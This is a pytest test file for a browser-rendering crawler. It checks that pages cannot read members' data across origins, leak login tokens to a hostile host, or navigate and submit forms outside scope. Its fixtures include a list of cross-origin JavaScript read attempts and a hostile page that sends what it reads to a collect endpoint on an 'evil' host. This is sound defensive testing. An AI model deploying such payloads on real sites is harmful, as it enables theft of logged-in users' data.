"""L13, X-N7: no page reads what Chromium would refuse it, and no credential goes where Chromium would send none.

And C10: where a page goes by itself, what it sends by forms, and what other servers set for its host.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any, Final

import pytest

from tests.crawl_forks import COMMANDS
from tests.hostile_login_site import APP, EVIL, HostileLoginSite, Page
from tests.page_wall import need_browser
from tests.site.client import write_project
from tests.stored_rows import query_columns

pytestmark = pytest.mark.extended

SECRET: Final = "wordsformembers"
PUBLIC: Final = "wordsforguests"
TOKEN: Final = "t0ken-of-the-source"
_FILLER: Final = " ".join(f"word{number}" for number in range(40))
#: How a source knows somebody; each opens what the site has for members.
LOGINS: Final[dict[str, dict[str, Any]]] = {
    "cookies": {"login": {"type": "cookies", "fields": {"sid": TOKEN}}},
    "basic": {"login": {"type": "basic", "username": "wanda", "password": "pw"}},
    "headers": {"fetch": {"headers": {"X-Token": TOKEN}}},
}
#: What a page of another host of the boundary tries; MEMBERS is the origin of the other. Whatever it reads it writes and sends.
ATTACKS: Final = {
    "fetch without credentials": "fetch('MEMBERS/data.json', {credentials: 'omit'}).then(r => r.text()).then(tell)",
    "fetch with credentials": "fetch('MEMBERS/data.json', {credentials: 'include'}).then(r => r.text()).then(tell)",
    "fetch without cors": "fetch('MEMBERS/data.json', {mode: 'no-cors', credentials: 'include'}).then(r => r.text()).then(tell)",
    "open data": "fetch('MEMBERS/open.json', {credentials: 'include'}).then(r => r.text()).then(tell)",
    "open data, no credentials": "fetch('MEMBERS/open.json').then(r => r.text()).then(tell)",
    "xhr": "const x = new XMLHttpRequest(); x.withCredentials = true; x.onload = () => tell(x.responseText);"
    "x.open('GET', 'MEMBERS/data.json'); x.send()",
    "jsonp": "const s = document.createElement('script'); s.src = 'MEMBERS/jsonp.js'; document.head.append(s)",
    "module": "import('MEMBERS/module.js').then(m => tell(m.words))",
    "cached script": "const s = document.createElement('script'); s.src = 'MEMBERS/cached.js'; document.head.append(s)",
    "style": "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'MEMBERS/style.css';"
    "l.onload = () => tell(getComputedStyle(document.body).getPropertyValue('--words')); document.head.append(l)",
    "redirect of data": "fetch('/away?to=data.json').then(r => r.text()).then(tell)",
    "redirect of data, with credentials": "fetch('/away?to=data.json', {credentials: 'include'}).then(r => r.text()).then(tell)",
    "redirect of a script": "const s = document.createElement('script'); s.src = '/away?to=jsonp.js'; document.head.append(s)",
    "redirect there and back": "fetch('MEMBERS/back', {credentials: 'include'}).then(r => r.text()).then(tell)",
    "frame": "const f = document.createElement('iframe'); f.src = 'MEMBERS/page.html';"
    "f.onload = () => { tell(f.contentDocument ? f.contentDocument.body.textContent : 'closed') }; document.body.append(f)",
    "frame of its own that asks": "const f = document.createElement('iframe');"
    "f.srcdoc = `<script>fetch('MEMBERS/data.json', {credentials: 'include'}).then(r => r.text())"
    ".then(t => parent.document.body.append(t))</` + `script>`; document.body.append(f)",
    "frame in a sandbox": "const f = document.createElement('iframe'); f.sandbox = 'allow-scripts';"
    "f.srcdoc = `<script src=MEMBERS/jsonp.js></` + `script><script>parent.postMessage(String(window.words), '*')</` + `script>`;"
    "onmessage = e => tell(e.data); document.body.append(f)",
    "worker": "const w = new Worker(URL.createObjectURL(new Blob([`fetch('MEMBERS/data.json', {credentials: 'include'})"
    ".then(r => r.text()).then(postMessage)`]))); w.onmessage = e => tell(e.data)",
    "worker with its script": "const w = new Worker(URL.createObjectURL(new Blob([`self.words = 0; self.tell = postMessage;"
    "importScripts('MEMBERS/jsonp.js'); postMessage(String(self.words))`]))); w.onmessage = e => tell(e.data)",
    "font": "new FontFace('f', 'url(MEMBERS/data.json)').load().then(tell)",
    "image on a canvas": "const i = new Image(); i.src = 'MEMBERS/picture.svg'; i.onload = () => { const c ="
    "document.createElement('canvas'); const x = c.getContext('2d'); x.drawImage(i, 0, 0); tell(c.toDataURL()) }",
}


@pytest.fixture
def site() -> Iterator[HostileLoginSite]:
    need_browser()
    with HostileLoginSite() as running:
        yield running


def is_member(handler: BaseHTTPRequestHandler) -> bool:
    headers = handler.headers
    return TOKEN in (headers.get("Cookie") or "") or bool(headers.get("Authorization") or headers.get("X-Token"))


def put_members(site: HostileLoginSite, *links: str) -> None:
    """What the host of the members has: for them other words than for all others."""

    def answer(form: str, kind: str, *headers: tuple[str, str]) -> Any:
        def build(handler: BaseHTTPRequestHandler) -> Page:
            words = SECRET if is_member(handler) else PUBLIC
            return Page(form % words, kind=kind, headers=[("Cache-Control", "no-store"), *headers])

        return build

    anchors = "".join(f"<a href={link}>{link}</a>" for link in links)
    cors = (("Access-Control-Allow-Origin", "*"),)
    script = "self.words = '%s'; typeof tell === 'function' && tell(self.words)"
    use = "<script>fetch('/data.json').then(r => r.json()).then(d => document.getElementById('root').append('own ' + d))</script>"
    files: dict[str, Any] = {
        "/": Page(f"<title>members</title><p>{_FILLER}</p>{anchors}<script src=/cached.js></script>"),
        "/own.html": Page(f"<title>own</title><p>{_FILLER}</p><div id=root></div>{use}"),
        "/data.json": answer('"%s"', "application/json"),
        "/open.json": answer('"%s"', "application/json", *cors),
        "/jsonp.js": answer(script, "text/javascript"),
        "/module.js": answer("export const words = '%s'", "text/javascript", *cors),
        "/style.css": answer("body { --words: '%s' }", "text/css"),
        "/page.html": answer("<p>%s</p>", "text/html"),
        "/picture.svg": answer("<svg xmlns='http://www.w3.org/2000/svg'><text>%s</text></svg>", "image/svg+xml"),
        "/back": Page("", 302, [("Location", site.url("/away?to=data.json", EVIL)), *cors]),
    }
    for path, file in files.items():
        site.put(path, file)

    def cached(handler: BaseHTTPRequestHandler) -> Page:
        return Page(script % (SECRET if is_member(handler) else PUBLIC), kind="text/javascript")

    def away(handler: BaseHTTPRequestHandler) -> Page:
        return Page("", 302, [("Location", site.url(f"/{handler.path.partition('to=')[2]}"))])

    site.put("/cached.js", cached)
    site.put("/away", away, EVIL)


def put_attack(site: HostileLoginSite, code: str) -> None:
    tell = "function tell(t) { document.getElementById('root').append(' got ' + t + ' '); fetch('/collect?d=' + encodeURIComponent(t)) }"
    body = f"<title>evil</title><p>{_FILLER}</p><div id=root></div><script>{tell}\n{code.replace('MEMBERS', site.url(''))}</script>"
    site.put("/evil.html", Page(body), EVIL)
    site.put("/collect", Page("", 204), EVIL)


def crawl(
    folder: Path, site: HostileLoginSite, *paths: str, hosts: Sequence[str] = (APP,), **more: Any
) -> dict[str, dict[str, Any]]:
    """Crawls pages as the browser renders them; the rows by path. Keys of [fetch] and [render] may be given."""
    fetch = {"retries": 0, "timeout_seconds": 5, "delay_seconds": 0, **more.pop("fetch", {})}
    render = {"mode": "always", "max_seconds": 3.0, **more.pop("render", {})}
    start = {"urls": [site.url(path) for path in paths or ("/",)], "sitemaps": "off"}
    scope = {"include_hosts": [*hosts], "trap_after": 0}
    write_project(folder, site.port, start=start, scope=scope, fetch=fetch, render=render, **more)
    ended = COMMANDS.run(folder, "crawl", "demo")
    assert ended.returncode == 0, ended.stderr
    rows = query_columns(folder, "SELECT url, code, rule FROM urls")
    return {row["url"].split(str(site.port), 1)[1]: row for row in rows}


def find(folder: Path, words: str) -> list[str]:
    """The pages, by their paths, that are found by words."""
    hits = json.loads(COMMANDS.run(folder, "search", words, "--json").stdout)["hits"]
    return sorted(hit["url"].rpartition("/")[2] for hit in hits)


@pytest.mark.parametrize("login", LOGINS)
def test_l13_page_when_it_asks_another_host_then_it_reads_nothing_that_a_browser_would_not_give_it(
    tmp_path: Path, site: HostileLoginSite, login: str
) -> None:
    names = {f"evil{number}.html": attack for number, attack in enumerate(ATTACKS.values())}
    put_members(site, "/own.html", *(site.url(f"/{name}", EVIL) for name in names))
    for name, code in names.items():
        put_attack(site, code)
        site.put(f"/{name}", site.pages[EVIL, "/evil.html"], EVIL)

    crawl(tmp_path, site, hosts=(APP, EVIL), **LOGINS[login])

    assert find(tmp_path, SECRET) == ["own.html", "page.html"]
    # Both are pages of the members themselves.
    assert not [one for one in site.seen(EVIL) if one.path in {"/own.html", "/page.html"}]
    assert SECRET not in " ".join(one.path for one in site.seen(EVIL))
    assert not [one for one in site.seen(EVIL) if TOKEN in str(one.headers) or "authorization" in one.headers]
    assert {one.path for one in site.seen(EVIL)} >= {f"/{name}" for name in names}


@pytest.mark.parametrize("login", LOGINS)
def test_l13_page_when_a_redirect_led_outside_the_boundary_then_it_has_no_credentials_and_no_private_address(
    tmp_path: Path, site: HostileLoginSite, login: str
) -> None:
    put_members(site, "/go")
    put_attack(site, ATTACKS["jsonp"] + ";" + ATTACKS["open data"])
    site.put("/go", Page("", 302, [("Location", site.url("/evil.html", EVIL))]))

    crawl(tmp_path, site, **LOGINS[login])

    assert find(tmp_path, SECRET) == []
    assert not [one for one in site.seen(APP) if "evil" in one.headers.get("referer", "")]
    assert SECRET not in " ".join(one.path for one in site.seen(EVIL))


#: Pages whose scripts lead to a host outside the boundary.
MOVES: Final = {
    "/location": "location = 'OUTSIDE/?t=' + document.title",
    "/link": "const a = document.createElement('a'); a.href = 'OUTSIDE/'; document.body.append(a); a.click()",
    "/twice": "location = 'OUTSIDE/a'; setTimeout(() => { location = 'OUTSIDE/b' }, 30)",
    "/refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=OUTSIDE/';"
    "document.head.append(m)",
    "/top": "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.eval(\"top.location = 'OUTSIDE/'\")",
}
#: Pages with a form that a script, or a click, sends.
FORMS: Final = {
    "/get": "<form action=/sent><input name=q value=1></form><script>document.forms[0].submit()</script>",
    "/post": "<form method=post action=/sent><input name=q value=1></form><script>document.forms[0].submit()</script>",
    "/frame": "<iframe srcdoc='<form action=/sent target=_self><input name=q></form><script>document.forms[0].submit()</script>'></iframe>",
    "/click": "<form action=/sent><button>Go</button></form>",
}


@pytest.fixture
def other() -> Iterator[HostileLoginSite]:
    """Another server at the same hosts, at another port."""
    with HostileLoginSite() as running:
        yield running


def test_l13_pages_when_their_scripts_lead_outside_then_nothing_is_sent_there_and_the_rule_is_named(
    tmp_path: Path, site: HostileLoginSite
) -> None:
    outside = f"http://{EVIL}:{site.port}"
    for path, script in MOVES.items():
        code = script.replace("OUTSIDE", outside)
        site.put(path, Page(f"<title>own</title><p>{_FILLER}</p><script>{code}</script>"))
    site.put("/", Page("<title>evil</title><p>words of others</p>"), EVIL)

    rows = crawl(tmp_path, site, *MOVES)

    assert {path: row["code"] for path, row in rows.items()} == dict.fromkeys(MOVES, 953)
    assert all("scope.include_hosts" in row["rule"] for row in rows.values())
    assert not site.seen(EVIL)


def test_c10_page_when_a_click_follows_a_link_then_the_page_stays_and_the_link_is_one_of_it(
    tmp_path: Path, site: HostileLoginSite
) -> None:
    script = "<script>document.getElementById('go').onclick = () => { location = '/by-script' }</script>"
    for path, element in {"/a": "<a id=go href=/next>Go</a>", "/b": f"<button id=go>Go</button>{script}"}.items():
        site.put(path, Page(f"<title>{path}</title><p>own{path[1:]} {_FILLER}</p>{element}<a href=/last>last</a>"))
    for path in ("/next", "/last", "/by-script"):
        site.put(path, Page(f"<title>{path}</title><p>{path} {_FILLER} {path}{path}</p>"))

    rows = crawl(tmp_path, site, "/a", "/b", render={"actions": [{"click": "#go"}]})

    assert {rows[path]["code"] for path in ("/a", "/b")} == {200}
    assert {"/next", "/last", "/by-script"} <= set(rows)
    assert (find(tmp_path, "owna"), find(tmp_path, "ownb")) == (["a"], ["b"])


def test_l13_forms_when_a_page_or_a_frame_sends_them_then_no_server_gets_any(
    tmp_path: Path, site: HostileLoginSite
) -> None:
    for path, body in FORMS.items():
        site.put(path, Page(f"<title>{path}</title><p>own{path[1:]} {_FILLER}</p>{body}"))

    rows = crawl(tmp_path, site, *FORMS, render={"actions": [{"match": "*/click", "click": "button"}]})

    assert {path: rows[path]["code"] for path in FORMS} == dict.fromkeys(FORMS, 200)
    assert not [one.path for one in site.seen(APP) if one.path.startswith("/sent")]
    assert all(find(tmp_path, f"own{path[1:]}") == [path[1:]] for path in FORMS)


def test_n7_cookies_when_another_port_sets_some_for_the_host_then_the_login_keeps_its_own_and_sends_it_none(
    tmp_path: Path, site: HostileLoginSite, other: HostileLoginSite
) -> None:
    evil = f"http://{APP}:{other.port}"
    taken = [("Set-Cookie", "sid=theirs; Path=/"), ("Set-Cookie", "sid=theirs; Path=/; Domain=acme.test")]
    other.put("/set.js", Page("", headers=[*taken, ("Cache-Control", "no-store")], kind="text/javascript"))
    other.put("/see.js", Page("", headers=[("Cache-Control", "no-store")], kind="text/javascript"))
    see = f"<script>document.cookie = 'made=here; path=/'; document.write('<script src={evil}/see.js></' + 'script>')</script>"
    site.put(
        "/first", Page(f"<title>1</title><p>{_FILLER}</p><script src={evil}/set.js></script>{see}<a href=/second>2</a>")
    )
    site.put("/second", Page(f"<title>2</title><p>{_FILLER} second</p>"))
    login = {"type": "cookies", "fields": {"sid": "ours"}}

    crawl(tmp_path, site, "/first", login=login, render={"allow_hosts": [APP]})

    asked = {one.path for one in other.seen(APP)}
    assert {"/set.js", "/see.js"} <= asked
    sent = [one.headers.get("cookie", "") for one in site.seen(APP) if one.path == "/second"]
    assert sent
    assert all("sid=ours" in header and "theirs" not in header for header in sent)
    assert all(not one.headers.get("cookie") for one in other.seen(APP) if one.path == "/set.js")
    assert all(
        "ours" not in one.headers.get("cookie", "") and "made" not in one.headers.get("cookie", "")
        for one in other.seen(APP)
    )
